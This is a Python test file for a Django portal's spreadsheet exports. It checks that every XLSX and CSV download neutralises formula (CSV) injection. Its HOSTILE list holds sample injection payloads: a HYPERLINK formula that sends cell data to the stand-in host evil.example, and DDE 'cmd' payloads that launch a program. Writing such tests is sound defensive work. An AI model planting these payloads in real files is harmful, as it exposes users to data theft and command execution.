"""Every XLSX and CSV the portal answers is written by one helper (mentorship.exports), and no
cell of it is run as a formula by a spreadsheet, whatever text people typed into the data."""

import csv
import datetime
import io
import re
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse

from mentorship import exports
from orgs.models import Municipality, Organisation, Region, StaffMember
from tests.hardening.urlconf import cast_users, kind_of, routes

pytestmark = pytest.mark.django_db

# Each starts the way a formula does (OWASP CSV injection: =, +, -, @, tab, CR).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBER = re.compile(r"-?\d+(,\d+)?")

EXPORT_ROUTES = [route for route in routes() if hasattr(route.view, "exports")]


def hostile_cast(cast):
    """Every place of the cast and a teacher's record carry text that starts like a formula,
    and the teacher's change is in the audit history."""
    for i, region in enumerate(Region.objects.all()):
        Region.objects.filter(pk=region.pk).update(name=HOSTILE[i % len(HOSTILE)])
    for i, municipality in enumerate(Municipality.objects.all()):
        Municipality.objects.filter(pk=municipality.pk).update(name=HOSTILE[(i + 1) % 6])
    for i, organisation in enumerate(Organisation.objects.all()):
        Organisation.objects.filter(pk=organisation.pk).update(short_name=HOSTILE[(i + 2) % 6])
    for i, person in enumerate(StaffMember.objects.all()):
        person.position = HOSTILE[(i + 3) % 6]  # saved through the model: audited
        person.last_name = HOSTILE[i % 6]
        person.save()


def candidates(cast, route) -> list[dict]:
    """Path values from the cast: one place of each region, by what the part names."""
    by_kind = {
        "organisations": [cast.school_a, cast.school_b],
        "municipalities": [cast.m1, cast.m3],
        "regions": [cast.region1, cast.region2],
    }
    options = [{}]
    for part in route.parts:
        values = by_kind[kind_of(route.route, part)]
        options = [{**o, part: v.pk} for o in options for v in values]
    return options


def cells(response, kind: str) -> list:
    if kind == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        found = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    found.append(cell.value)
        return found
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return [value for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for value in row]


def test_every_export_view_is_found_in_the_urlconf():
    names = {route.name for route in EXPORT_ROUTES}
    # The audit history and the overviews at least; a new export view joins by itself.
    assert {"orgs:history", "monitoring:municipality_overview"} <= names


@pytest.mark.parametrize("route", EXPORT_ROUTES, ids=str)
def test_every_export_of_the_cast_neutralises_formulas(client, cast, route):
    hostile_cast(cast)
    spec = route.view.exports
    answered = set()
    for user in cast_users(cast).values():
        client.force_login(user)
        for kwargs in candidates(cast, route):
            url = reverse(route.name, kwargs=kwargs)
            for kind in spec["kinds"]:
                response = client.get(url, {spec["query"]: kind} if spec["query"] else {})
                assert response.status_code < 500, (url, kind, user)
                if response.status_code != 200:
                    continue
                assert response["Content-Type"] == exports.CONTENT_TYPES[kind], (url, user)
                values = [v for v in cells(response, kind) if isinstance(v, str)]
                for value in values:
                    if kind == "csv" and NUMBER.fullmatch(value):
                        continue  # a number, negative or not, stays a number
                    assert not value.startswith(exports.FORMULA_STARTS), (url, kind, value)
                if spec["hostile"]:
                    # The hostile text did reach the file, neutralised, not dropped.
                    assert any(
                        v.startswith("'") and v[1:].startswith(tuple(HOSTILE)) for v in values
                    ), (url, kind)
                answered.add(kind)
    assert answered == set(spec["kinds"]), f"no role of the cast downloaded {route}"


def test_numbers_stay_numbers_and_the_parameters_are_kept():
    stamp = datetime.datetime(2026, 12, 6, 7, 5, tzinfo=datetime.UTC)
    sheet = exports.Sheet("Таблица", ["Название", "Число"], [["=1+1", -3], ["-", 2.5]])
    parameters = {"Учебный год": "2026/2027", "Фильтр": "@злой", "Данные на": stamp}
    book = openpyxl.load_workbook(
        io.BytesIO(exports.response("xlsx", "t", sheet, parameters=parameters).content)
    )
    assert book.sheetnames == ["Таблица", "Параметры"]
    rows = list(book["Таблица"].iter_rows(values_only=True))
    assert rows == [("Название", "Число"), ("'=1+1", -3), ("'-", 2.5)]
    assert list(book["Параметры"].iter_rows(values_only=True)) == [
        ("Параметр", "Значение"),
        ("Учебный год", "2026/2027"),
        ("Фильтр", "'@злой"),
        ("Данные на", "06.12.2026 10:05"),  # the portal's time zone, as the page shows it
    ]
    answer = exports.response("csv", "t", sheet, parameters=parameters)
    assert list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";")) == [
        ["Название", "Число"],
        ["'=1+1", "-3"],
        ["'-", "2,5"],
    ]
    disposition = unquote(answer["Content-Disposition"])
    assert disposition.endswith("t_2026-2027_злой_06-12-2026-10-05.csv")


def test_no_code_outside_the_helper_writes_a_spreadsheet_or_a_csv():
    """One helper means one place to keep safe: nothing else builds a workbook, a CSV writer
    or answers with their content types."""
    root = Path(settings.BASE_DIR)
    helper = root / "mentorship" / "exports.py"
    writers = re.compile(r"Workbook\(|csv\.writer|csv\.DictWriter|text/csv|spreadsheetml")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path != helper
        and not path.is_relative_to(root / "tests")
        and ".venv" not in path.parts
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
